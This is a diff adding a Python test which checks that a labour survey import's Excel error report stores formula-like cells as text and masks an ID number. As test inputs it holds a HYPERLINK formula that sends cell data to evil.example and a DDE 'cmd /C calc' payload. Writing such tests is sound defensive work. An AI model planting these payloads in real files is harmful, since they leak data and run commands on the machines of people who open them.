@@ -386,3 +386,25 @@ def test_an_openings_import_that_changes_an_opening_moves_its_version(tmp_path, 
     assert r.updated == 1
     # a web form read at `before` is now refused instead of overwriting the import's 25
     assert Opening.objects.get().version == before + 1
+
+
+def test_the_survey_error_report_gives_back_formula_like_cells_as_text(tmp_path, people):
+    """A labour import's error report (tabular.safe through the shared report writer): cells
+    that look like formulas come back as text; the summary holds the ID number masked."""
+    import re
+    import zipfile
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
+    path = write_csv(tmp_path / "s.csv", [
+        SURVEY_HEADER,
+        [UNREGISTERED, "是", "是", "", "", "", "", "@SUM(1+1)*cmd|' /C calc'!A0", evil],
+    ])
+    r = survey_import(path=path, dry_run=True)
+    assert r.rejected == 1 and r.report
+    with zipfile.ZipFile(r.report) as z:
+        xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert not re.search(r"<f[ >]", xml)
+    cells = {c.value: c for row in load_workbook(r.report).active.iter_rows() for c in row}
+    assert cells[evil].data_type == "s" and cells[evil].quotePrefix
+    assert UNREGISTERED in cells  # the report keeps what the uploader sent
+    assert UNREGISTERED not in json.dumps(r.as_json(), ensure_ascii=False)
